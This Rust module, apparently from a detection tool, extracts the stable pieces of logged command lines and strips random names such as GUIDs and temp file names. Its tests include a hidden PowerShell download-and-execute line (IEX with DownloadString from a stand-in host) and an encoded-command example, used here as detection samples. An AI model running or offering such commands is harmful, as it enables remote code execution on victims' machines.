//! The arguments of a command that a log shows again, on any computer: pieces of the command line
//! between blanks and quotation marks, without what is other each time.
//!
//! Each piece is a substring of the line as the document asks for it, so that `contains` finds it
//! whatever quotes the shell adds.

use std::collections::BTreeSet;

/// At most this many pieces: more make a rule slow and no more exact.
const PIECES: usize = 16;
/// At most this many bytes of one: the start of an encoded command is enough to know it again.
const LONGEST: usize = 96;
/// A word of this many letters and digits or more may be random.
const RANDOM: usize = 8;

/// The stable pieces, in the order in which they stand.
pub(super) fn stable(arguments: &str) -> Vec<String> {
    let mut seen = BTreeSet::new();
    let mut pieces = Vec::new();
    let between = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\u{fffd}');
    for piece in arguments.split(between) {
        let piece = super::super::shortened(without_random(piece), LONGEST);
        // One letter is in every line.
        if piece.chars().nth(1).is_some() && seen.insert(piece.to_lowercase()) {
            pieces.push(piece.to_owned());
        }
        if pieces.len() == PIECES {
            break;
        }
    }
    pieces
}

/// The longest run of names of a path or an address that are not random; other words as they are.
fn without_random(piece: &str) -> &str {
    let is_path = piece
        .find(['\\', '/'])
        .is_some_and(|at| at > 0 || piece.matches(['\\', '/']).count() > 1);
    if !is_path {
        return if is_name_by_chance(piece) { "" } else { piece };
    }
    // Runs of good names, each with the separators inside it.
    let mut best: &str = "";
    let mut start = None;
    let mut at: usize = 0;
    let mut after_users = false;
    for part in piece.split_inclusive(['\\', '/']) {
        let name = part.trim_end_matches(['\\', '/']);
        let end = at.saturating_add(part.len());
        let bad = after_users || is_name_by_chance(name);
        after_users = name.eq_ignore_ascii_case("users");
        if bad {
            start = None;
        } else {
            let from = *start.get_or_insert(at);
            // Without what separates it from a bad one.
            let run = piece.get(from..end).unwrap_or_default();
            if run.len() > best.len() {
                best = run;
            }
        }
        at = end;
    }
    best
}

/// Whether a name looks made by chance: a GUID, long digits, or letters and digits in turn.
fn is_name_by_chance(name: &str) -> bool {
    let stem = name.rsplit_once('.').map_or(name, |(stem, _)| stem);
    let stem = stem.trim_matches(['{', '}', '~']);
    // Long texts are payloads, which the document gives: they are no names.
    if stem.len() < RANDOM || stem.len() > 40 {
        return false;
    }
    if !stem
        .bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
    {
        return false;
    }
    let digits = stem.bytes().filter(u8::is_ascii_digit).count();
    let is_hex = stem
        .bytes()
        .all(|byte| byte.is_ascii_hexdigit() || byte == b'-');
    let letters: Vec<_> = stem.bytes().filter(|byte| *byte != b'-').collect();
    let turns = letters
        .iter()
        .zip(letters.iter().skip(1))
        .filter(|(one, next)| one.is_ascii_digit() != next.is_ascii_digit())
        .count();
    (is_hex && digits >= 2) || digits >= RANDOM || turns >= 3
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pieces_are_those_that_stand_in_the_line() {
        for (line, wanted) in [
            ("/c calc.exe", vec!["/c", "calc.exe"]),
            ("/k \"calc.exe\" /k", vec!["/k", "calc.exe"]),
            (
                "-NoP -w hidden IEX((New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1'))",
                vec![
                    "-NoP",
                    "-w",
                    "hidden",
                    "IEX((New-Object",
                    "Net.WebClient).DownloadString('http://example.invalid/a.ps1'))",
                ],
            ),
            ("a\tb\u{1}cd\n x", vec!["cd"]),
            ("", vec![]),
        ] {
            assert_eq!(stable(line), wanted, "{line}");
        }
    }

    #[test]
    fn what_is_other_each_time_is_left_out() {
        for (piece, wanted) in [
            (
                "C:\\Users\\bob\\AppData\\Local\\Temp\\x7Gh2k9Q.exe",
                "AppData\\Local\\Temp\\",
            ),
            (
                "C:\\Windows\\System32\\calc.exe",
                "C:\\Windows\\System32\\calc.exe",
            ),
            ("{0f8fad5b-d9cb-469f-a165-70867728950e}", ""),
            ("20171018123456.vbs", ""),
            (
                "http://example.invalid/d41d8cd98f00b204e9800998ecf8427e",
                "http://example.invalid/",
            ),
            ("\\\\server\\share\\a.exe", "\\\\server\\share\\a.exe"),
            ("/c", "/c"),
            ("powershell.exe", "powershell.exe"),
            ("URL.dll,OpenURL", "URL.dll,OpenURL"),
            ("DownloadString", "DownloadString"),
        ] {
            assert_eq!(without_random(piece), wanted, "{piece}");
        }
    }

    #[test]
    fn an_encoded_command_is_known_by_its_start() {
        let line = format!("-enc {}", "QUJDREVG".repeat(5000));
        let pieces = stable(&line);
        assert_eq!(pieces.len(), 2);
        assert_eq!(pieces[1].len(), LONGEST);
        let many: String = (0..1000).map(|number| format!("ab{number} ")).collect();
        assert_eq!(stable(&many).len(), PIECES);
    }
}
